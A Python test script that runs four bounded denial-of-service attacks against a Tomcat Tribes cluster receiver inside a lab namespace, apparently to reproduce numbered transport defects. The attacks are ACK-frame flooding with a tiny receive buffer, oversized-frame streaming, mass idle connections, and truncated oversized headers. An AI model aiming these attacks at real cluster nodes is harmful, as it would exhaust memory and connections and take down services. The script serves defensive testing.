"""An attacker of a Tribes receiver, run inside a lab namespace (issue 19's transport defects).

    hostile_attacker.py ATTACK HOST PORT SECONDS

Attacks (each bounded in time and count, each prints one JSON line ``{"event": "attackDone", ...}``):

* ``noack``: one connection with a 4 KiB receive buffer that sends small USE_ACK frames as fast as
  the receiver takes them and never reads an ACK (defect 1);
* ``endless``: four connections that each announce a 200 MiB frame and send its body as fast as the
  receiver takes it, then hold the connection open (defect 5);
* ``idle``: 1,100 idle connections (defect 6);
* ``headers``: 290 connections that each send an 11-byte header claiming 4 MiB and nothing more
  (defect 8, first bullet).

It closes everything when SECONDS are over.
"""
from __future__ import annotations

import json
import os
import resource
import socket
import struct
import sys
import time

START = b"FLT2002"
END = b"TLF2003"


def ack_frame_bytes() -> bytes:
    """A USE_ACK ChannelData frame (options 3) from a made-up member, built by hand (no tribes import)."""
    member_body = struct.pack(">qiiib", 0, 4000, -1, -1, 4) + bytes([10, 0, 0, 99])
    member_body += struct.pack(">i", 0) + struct.pack(">i", 0) + b"\x01" * 16 + struct.pack(">i", 0)
    member = b"TRIBES-B\x01\x00" + struct.pack(">i", len(member_body)) + member_body + b"TRIBES-E\x01\x00"
    body = struct.pack(">iqi", 3, int(time.time() * 1000), 16) + b"\x02" * 16 + struct.pack(">i", len(member))
    body += member + struct.pack(">i", 32) + b"x" * 32
    return START + struct.pack(">i", len(body)) + body + END


def connect(host: str, port: int, rcvbuf: int | None = None) -> socket.socket | None:
    s = socket.socket()
    if rcvbuf:
        s.setsockopt(socket.SOL_SOCKET, socket.SO_RCVBUF, rcvbuf)
    s.settimeout(2)
    try:
        s.connect((host, port))
    except OSError:
        s.close()
        return None
    s.setblocking(False)
    return s


def push(socks: list[socket.socket], data: bytes, until: float) -> int:
    """Send ``data`` over and over on every socket (a continuous stream, whole frames in order)."""
    sent = 0
    view = memoryview(data)
    offset = {s: 0 for s in socks}
    live = list(socks)
    while time.monotonic() < until and live:
        progress = False
        for s in list(live):
            try:
                n = s.send(view[offset[s]:])
            except BlockingIOError:
                continue
            except OSError:
                live.remove(s)
                continue
            sent += n
            offset[s] = (offset[s] + n) % len(data)
            progress = True
        if not progress:
            time.sleep(0.01)
    return sent


def main() -> None:
    attack, host, port, seconds = sys.argv[1], sys.argv[2], int(sys.argv[3]), float(sys.argv[4])
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    resource.setrlimit(resource.RLIMIT_NOFILE, (min(hard, 8192), hard))
    until = time.monotonic() + seconds
    socks: list[socket.socket] = []
    sent = 0
    if attack == "noack":
        s = connect(host, port, rcvbuf=4096)
        if s is not None:
            socks.append(s)
            sent = push(socks, ack_frame_bytes() * 2000, until)
    elif attack == "endless":
        for _ in range(4):
            s = connect(host, port)
            if s is not None:
                socks.append(s)
        header = START + struct.pack(">i", 200 * 1024 * 1024)
        for s in socks:
            try:
                s.send(header)
            except OSError:
                pass
        sent = push(socks, bytes(1024 * 1024), until)
    elif attack in ("idle", "headers"):
        n = 1100 if attack == "idle" else 290
        for _ in range(n):
            if time.monotonic() > until:
                break
            s = connect(host, port)
            if s is None:
                continue
            socks.append(s)
            if attack == "headers":
                try:
                    s.send(START + struct.pack(">i", 4 * 1024 * 1024))
                except OSError:
                    pass
    else:
        raise SystemExit(f"unknown attack {attack!r}")
    opened = len(socks)
    while time.monotonic() < until:
        time.sleep(0.05)
    alive = 0
    for s in socks:
        try:
            if s.recv(1, socket.MSG_PEEK) != b"":
                alive += 1
        except BlockingIOError:
            alive += 1
        except OSError:
            pass
        s.close()
    print(json.dumps({"event": "attackDone", "attack": attack, "opened": opened, "stillOpen": alive,
                      "bytesSent": sent, "pid": os.getpid()}), flush=True)


if __name__ == "__main__":
    main()
